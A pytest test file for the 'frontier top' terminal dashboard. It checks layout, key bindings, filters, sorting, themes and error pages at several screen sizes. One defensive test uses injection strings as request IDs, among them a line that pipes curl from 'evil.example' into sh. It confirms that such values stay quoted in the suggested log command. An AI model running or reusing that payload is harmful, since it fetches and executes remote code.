"""The screen of `frontier top`, driven by keys at every size."""

import asyncio
import re
import shlex
import threading
from collections.abc import Callable, Coroutine
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.widgets import Input

from frontier.cli.top_app import TopApp
from frontier.cli.top_pages import Page
from frontier.cli.top_panel import Panel
from frontier.domain.top import Failure, TopView
from top_views import look

SIZES = [(60, 20), (80, 24), (120, 40), (200, 50)]
Act = Callable[[TopApp, Pilot[int]], Coroutine[Any, Any, None]]


class Looks:
    """A use-case whose next looks a test decides; `gate` holds one back."""

    def __init__(self) -> None:
        self.view = look()
        self.count = 0
        self.gate = threading.Event()
        self.gate.set()

    def look(self) -> TopView:
        self.gate.wait(10)
        self.count += 1
        return self.view


def drive(act: Act, *, size: tuple[int, int] = (120, 40), looks: Looks | None = None) -> TopApp:
    """Run the app in a screen of *size* and let *act* have its way with it."""
    seen = looks or Looks()
    app = TopApp(seen, seen.view, interval_s=0.5)  # type: ignore[arg-type]

    async def run() -> None:
        async with app.run_test(size=size) as pilot:
            await pilot.pause()
            await act(app, pilot)

    asyncio.run(run())
    return app


def shown(app: TopApp) -> str:
    """What stands on the screen, line by line."""
    return "\n".join(
        "".join(segment.text for segment in strip).rstrip()
        for strip in app.screen._compositor.render_strips()
    )


def current(app: TopApp) -> str:
    return next(str(p.id) for p in app.query(Panel) if p.has_class("-current"))


async def until(app: TopApp, pilot: Pilot[int], probe: Callable[[], object]) -> None:
    for _ in range(200):
        await pilot.pause(0.02)
        if probe():
            return
    raise AssertionError(shown(app))


@pytest.mark.parametrize("size", SIZES, ids=str)
def test_every_size_shows_the_numbers_the_machine_and_a_table(size: tuple[int, int]) -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        screen = shown(app)
        for word in ("llamacpp: running", "12.5", "345", "52 ms", "queued 2", "63 %", "OUT/S"):
            assert word in screen, screen
        assert "q quit" in screen
        assert len(screen.splitlines()) == size[1]
        assert not any(panel.show_horizontal_scrollbar for panel in app.query(Panel))

    drive(act, size=size)


def test_a_low_screen_shows_one_panel_and_the_names_of_all() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        assert "1 Models 2   2 Engines 2   3 Keys 1   4 Errors 9" in shown(app)
        for key, word in (("4", "/v1/embeddings"), ("2", "backoff"), ("3", "KEY")):
            await pilot.press(key)
            await pilot.pause()
            assert word in shown(app)

    drive(act, size=(60, 20))


def test_a_high_screen_shows_all_panels() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        screen = shown(app)
        for word in ("smollm2:135m", "backoff", "TOKENS OUT", "/v1/embeddings"):
            assert word in screen, screen

    drive(act, size=(120, 40))


def test_tab_goes_round_the_panels_and_back() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        seen = [current(app)]
        for key in ("tab", "tab", "tab", "tab", "shift+tab"):
            await pilot.press(key)
            seen.append(current(app))
        assert seen == ["models", "engines", "keys", "errors", "models", "errors"]

    drive(act, size=(80, 24))


def test_a_resize_chooses_the_columns_anew() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        assert "FAIL/S" in shown(app)
        await pilot.resize_terminal(60, 20)
        await pilot.pause()
        assert "FAIL/S" not in shown(app)
        await pilot.resize_terminal(150, 30)
        await pilot.pause()
        assert "FAIL/S" in shown(app)

    drive(act)


@pytest.mark.parametrize("key", ["q", "ctrl+c"])
def test_q_and_ctrl_c_leave(key: str) -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press(key)

    assert not drive(act).return_value


def test_help_opens_and_closes_and_lists_the_keys() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("question_mark")
        assert isinstance(app.screen, Page)
        assert "quit" in shown(app)
        await pilot.press("escape")
        assert not isinstance(app.screen, Page)

    drive(act, size=(80, 24))


def test_new_looks_come_by_themselves_and_the_cursor_stays_on_its_row() -> None:
    looks = Looks()

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("4", "down", "down")
        panel = app.query_one("#errors", Panel)
        chosen = panel.selected
        looks.view = look(errors=looks.view.errors[1:], stack="another")
        await until(app, pilot, lambda: "another" in shown(app))
        assert panel.selected == chosen

    drive(act, looks=looks)


def test_a_cursor_at_the_top_stays_there_where_new_errors_come() -> None:
    looks = Looks()

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        looks.view = look(errors=looks.view.errors[3:], stack="another")
        await until(app, pilot, lambda: "another" in shown(app))
        looks.view = look(stack="third")
        await until(app, pilot, lambda: "third" in shown(app))
        assert app.query_one("#errors", Panel).selected == looks.view.errors[0]

    drive(act, looks=looks)


def test_pause_stops_looking_until_it_is_pressed_again() -> None:
    looks = Looks()

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("p")
        assert "PAUSED" in shown(app)
        before = looks.count
        await pilot.pause(0.7)  # longer than the interval
        assert looks.count == before
        looks.view = look(stack="another")
        await pilot.press("p")
        await until(app, pilot, lambda: "another" in shown(app))

    drive(act, looks=looks)


def test_plus_and_minus_change_the_pace_within_its_bounds() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("plus")
        assert "every 0.5 s" in shown(app)
        await pilot.press("minus")
        assert "every 1 s" in shown(app)
        for _ in range(9):
            app.action_pace(1)
        assert "every 60 s" in shown(app)

    drive(act)


def test_s_sorts_by_each_column_and_at_last_by_none() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("3", "s", "s")
        assert "OUT/S▾" in shown(app)
        for _ in range(5):
            app.action_sort()
        assert "▾" not in shown(app)

    drive(act, size=(80, 24))


def test_a_filter_narrows_all_tables_and_escape_ends_it() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("slash", "m", "o")
        assert "gateway" not in shown(app)
        assert "filter 'mo'" in shown(app)
        await pilot.press("enter")
        assert not app.query_one(Input).display
        assert "gateway" not in shown(app)
        await pilot.press("escape")
        assert "gateway" in shown(app)

    drive(act)


def test_letters_that_are_keys_can_be_typed_into_the_filter() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("slash", *"qp?1")
        assert app.is_running
        assert app.query_one(Input).value == "qp?1"

    drive(act)


@pytest.mark.parametrize(
    ("keys", "words"),
    [
        (("1", "enter"), ("1,073,741,824 bytes", "first token p50")),
        (("2", "enter"), ("frontier logs llamacpp", "150 %")),
        (("4", "enter"), ("frontier logs gateway --grep req_0", "/v1/embeddings")),
        (("m",), ("NVIDIA H200", "93 %")),
    ],
)
def test_enter_and_m_show_all_that_is_known(keys: tuple[str, ...], words: tuple[str, ...]) -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press(*keys)
        await pilot.pause()
        for word in words:
            assert word in shown(app)
        await pilot.press("escape")

    drive(act, size=(110, 40))


@pytest.mark.parametrize(
    "chosen", ["x;curl -s evil.example|sh", "'$(x)'`x`\\", "[/b] [red].*", "-f"]
)
def test_an_id_that_a_client_chose_is_one_word_of_the_command(chosen: str) -> None:
    looks, notes = Looks(), list[str]()
    looks.view = look(errors=(Failure(time="", route="/v1/x", status=404, request_id=chosen),))

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("4", "enter")
        await pilot.pause()
        assert isinstance(app.screen, Page)
        assert chosen in (app.screen.query_one("#page").border_title or "").replace("\\[", "[")
        notes.append(app.screen._note)

    drive(act, looks=looks)

    _, _, command = notes[0].partition(": ")
    *words, pattern = shlex.split(command)
    assert words == ["frontier", "logs", "gateway", "--grep"]
    assert re.fullmatch(pattern, chosen)
    assert not pattern.startswith("-")


def test_t_goes_through_the_themes_and_the_screen_stays_whole() -> None:
    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        seen = [app.theme]
        for _ in range(3):
            await pilot.press("t")
            await pilot.pause()
            seen.append(app.theme)
            assert "llamacpp: running" in shown(app)
        assert seen == ["ansi-dark", "textual-dark", "textual-light", "ansi-dark"]

    drive(act)


def test_a_look_that_hangs_never_stops_the_keys() -> None:
    looks = Looks()

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        looks.gate.clear()
        await pilot.press("2")
        await pilot.press("question_mark")
        assert isinstance(app.screen, Page)
        looks.gate.set()

    drive(act, looks=looks)


def test_a_page_that_is_open_does_not_stop_the_looks_below() -> None:
    looks = Looks()

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await pilot.press("question_mark")
        before = looks.count
        looks.view = look(stack="another")
        await until(app, pilot, lambda: looks.count >= before + 2)
        await pilot.press("escape")
        assert "another" in shown(app)

    drive(act, looks=looks)


@pytest.mark.parametrize(
    ("view", "words"),
    [
        (look(problem="nothing listens at URL", silent_s=5.0), "nothing listens at URL"),
        (look(state="stopped", models=(), engines=(), keys=(), machine=None), "nothing runs"),
        (look(state="died", models=(), engines=()), "the daemon was killed"),
    ],
)
def test_what_is_wrong_stands_at_the_top(view: TopView, words: str) -> None:
    looks = Looks()
    looks.view = view

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        assert words in shown(app).splitlines()[0]

    drive(act, looks=looks, size=(120, 24))


def test_names_with_markup_in_them_are_shown_as_they_are() -> None:
    looks = Looks()
    looks.view = look(stack="[bold]x[/]", errors=(look().errors[0],))

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        assert "[bold]x[/]" in shown(app)

    drive(act, looks=looks)


def test_a_bug_in_a_look_ends_the_screen_with_its_traceback() -> None:
    class Broken(Looks):
        def look(self) -> TopView:
            raise ZeroDivisionError("a bug")

    async def act(app: TopApp, pilot: Pilot[int]) -> None:
        await until(app, pilot, lambda: not app.is_running)

    with pytest.raises(ZeroDivisionError, match="a bug"):
        drive(act, looks=Broken())
